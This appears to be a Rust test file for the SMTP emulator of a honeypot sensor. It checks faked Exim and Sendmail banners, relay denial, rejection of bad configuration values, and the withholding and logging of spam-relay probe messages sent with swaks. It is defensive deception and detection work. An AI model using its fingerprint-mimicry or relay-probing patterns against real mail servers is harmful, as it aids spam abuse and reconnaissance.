    // SMTP_MTA picks the server, SMTP_DISTRO its version.
    let exim = greet(&[("NODE_NAME", "mx-7"), ("SMTP_MTA", "exim"), ("SMTP_DISTRO", "ubuntu22")]);
    assert!(exim.starts_with("220 mx-7 ESMTP Exim 4.95 Ubuntu "), "{exim}");
    let sendmail = greet(&[("NODE_NAME", "mx-7"), ("SMTP_MTA", "sendmail"), ("SMTP_DISTRO", "rocky9")]);
    assert!(sendmail.starts_with("220 mx-7 ESMTP Sendmail 8.16.1/8.16.1; "), "{sendmail}");

    // Reply wording follows the MTA.
    let (addr, _log) = support::serve("smtp", 25, &[("NODE_NAME", "mx-7"), ("SMTP_MTA", "sendmail")]);
    let mut smtp = Raw::connect(addr);
    smtp.reply();
    let ehlo = smtp.ask("EHLO client");
    assert!(ehlo.starts_with("250-mx-7 Hello [127.0.0.1], pleased to meet you\r\n"), "{ehlo}");
    assert_eq!(smtp.ask("MAIL FROM:<a@b.example>"), "250 2.1.0 <a@b.example>... Sender ok");
    assert_eq!(smtp.ask("RCPT TO:<c@d.example>"), "550 5.7.1 <c@d.example>... Relaying denied");

    // SMTP_BANNER replaces the greeting and names the host EHLO answers with.
    let (addr, _log) = support::serve(
        "smtp",
        25,
        &[("NODE_NAME", "mx-7"), ("SMTP_MTA", "exim"), ("SMTP_BANNER", "mx.corp.local ESMTP Exim 4.96")],
    );
    let mut smtp = Raw::connect(addr);
    assert_eq!(smtp.reply(), "220 mx.corp.local ESMTP Exim 4.96");
    assert!(smtp.ask("EHLO client").starts_with("250-mx.corp.local Hello client [127.0.0.1]\r\n"));
    // ...and the domain it is in is local: no relaying needed.
    smtp.ask("MAIL FROM:<a@b.example>");
    assert_eq!(smtp.ask("RCPT TO:<ceo@corp.local>"), "250 Accepted");

    for (var, value) in [
        ("SMTP_MTA", "qmail"),
        ("SMTP_DISTRO", "gentoo"),
        ("SMTP_BANNER", "220 two\nlines"),
        ("SMTP_OPEN_RELAY", "sometimes"),
        ("SMTP_QUARANTINE_DIR", "/nonexistent/chaff"),
        ("SMTP_SERVICE_NAME", "imap"),
        ("SMTP_UPSTREAM_PORT", "99999"),
        ("SMTP_PROBE_LIMIT", "lots"),
    ] {
        assert_eq!(emulator_error("smtp_relay", 25, &[(var, value)]), var);
    }
}

/// Sends one message with swaks (no AUTH) and returns its queue id.
fn relay_one(addr: SocketAddr, to: &str) -> String {
    let output =
        swaks(addr, &["--from", "probe@spam.example", "--to", to, "--header", "Subject: relay test"]);
    let out = text(&output);
    assert!(output.status.success(), "{out}");
    out.lines().find_map(|l| l.split("queued as ").nth(1)).expect(&out).trim().to_owned()
}

#[test]
fn smtp_relay_withholds_probe_deliveries_up_to_the_limit() {
    // The "upstream" is a listener of this test: the sensor must never connect to it.
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    upstream.set_nonblocking(true).unwrap();
    let upstream_port = upstream.local_addr().unwrap().port().to_string();
    let env = [
        ("NODE_NAME", "relay-01"),
        ("SMTP_SERVICE_NAME", "smtp_relay"),
        ("SMTP_OPEN_RELAY", "1"),
        ("SMTP_UPSTREAM_HOST", "127.0.0.1"),
        ("SMTP_UPSTREAM_PORT", upstream_port.as_str()),
        ("SMTP_UPSTREAM_USER", "relayuser"),
        ("SMTP_UPSTREAM_PASS", "relaypass"),
        ("SMTP_UPSTREAM_SENDER", "bounce@relay.example"),
        ("SMTP_PROBE_LIMIT", "2"),
    ];
    let (addr, log) = support::serve("smtp_relay", 25, &env);
    let ids: Vec<String> = (0..3).map(|_| relay_one(addr, "me@spammer.example")).collect();
    // Local mail is not relayed at all.
    relay_one(addr, "postmaster@relay-01");
    wait_for(&log, "four messages", |e| kinds(e).iter().filter(|k| **k == "message").count() == 4);
    let withheld = of_kind(&log, "relay_withheld");
    assert_eq!(withheld.len(), 2, "{withheld:#?}");
    for (n, event) in withheld.iter().enumerate() {
        assert_eq!(
            own_fields(event),
            json!({
                "queue_id": ids[n],
                "upstream_host": "127.0.0.1",
                "upstream_port": upstream.local_addr().unwrap().port(),
                "upstream_user": "relayuser",
                "upstream_auth": true,
                "envelope_from": "bounce@relay.example",
                "recipients": ["me@spammer.example"],
                "count": n + 1,
                "probe_limit": 2,
            })
        );
    }
    assert!(
        upstream.accept().is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock),
        "no connection out"
    );

    // Without a password the upstream login is off; without a sender the client's is used.
    let env = [
        ("NODE_NAME", "relay-02"),
        ("SMTP_SERVICE_NAME", "smtp_relay"),
        ("SMTP_OPEN_RELAY", "1"),
        ("SMTP_UPSTREAM_HOST", "smtp.upstream.example"),
    ];
    let (addr, log) = support::serve("smtp_relay", 25, &env);
    relay_one(addr, "me@spammer.example");
    relay_one(addr, "me@spammer.example");
    wait_for(&log, "two messages", |e| kinds(e).iter().filter(|k| **k == "message").count() == 2);
    let withheld = of_kind(&log, "relay_withheld");
    assert_eq!(withheld.len(), 1, "the default limit is one");
    assert_eq!(withheld[0]["upstream_port"], 25);
    assert_eq!(withheld[0]["upstream_auth"], false);
    assert!(withheld[0].get("upstream_user").is_none());
    assert_eq!(withheld[0]["envelope_from"], "probe@spam.example");

    // In the smtp role the upstream settings do nothing.
    let env = [
        ("NODE_NAME", "relay-03"),
        ("SMTP_OPEN_RELAY", "1"),
        ("SMTP_UPSTREAM_HOST", "smtp.upstream.example"),
    ];
    let (addr, log) = support::serve("smtp", 25, &env);
    relay_one(addr, "me@spammer.example");
    wait_for_kind(&log, "message");
    assert!(of_kind(&log, "relay_withheld").is_empty());
}

#[test]
fn smtp_service_name_alone_sets_the_relay_role() {
    let env = [
        ("NODE_NAME", "relay-04"),
        ("SMTP_SERVICE_NAME", "smtp_relay"),
        ("SMTP_OPEN_RELAY", "1"),
        ("SMTP_UPSTREAM_HOST", "smtp.upstream.example"),
    ];
    // Served under the `smtp` slug: the variable, not the slug, decides.
    let (addr, log) = support::serve("smtp", 25, &env);
    relay_one(addr, "me@spammer.example");
    assert_eq!(wait_for_kind(&log, "relay_withheld")["count"], 1);
}

/// Serves one emulator on 127.0.0.1 for manual probing (`nmap -sV`, clients) and prints its
/// events: `CHAFF_PROBE=smtp:25 CHAFF_PROBE_ENV='SMTP_MTA=exim NODE_NAME=mx1' cargo test -p
/// chaff-sensor --test mail_ftp_emulators serve_for_probing -- --ignored --nocapture`.
#[test]
#[ignore = "manual: serves until killed"]
fn serve_for_probing() {
    let probe = std::env::var("CHAFF_PROBE").unwrap_or_else(|_| "ftp:21".into());
    let (slug, port) = probe.split_once(':').expect("CHAFF_PROBE=slug:port");
    let env_text = std::env::var("CHAFF_PROBE_ENV").unwrap_or_default();
    let env: Vec<(&str, &str)> = env_text.split_whitespace().filter_map(|kv| kv.split_once('=')).collect();
    let (addr, log) = support::serve(slug, port.parse().unwrap(), &env);
    println!("serving {slug} on {addr}");
    let mut printed = 0;
    loop {
        let lines = log.lines();
        for line in &lines[printed..] {
            println!("{line}");
        }
        printed = lines.len();
        std::thread::sleep(Duration::from_millis(200));
    }
}
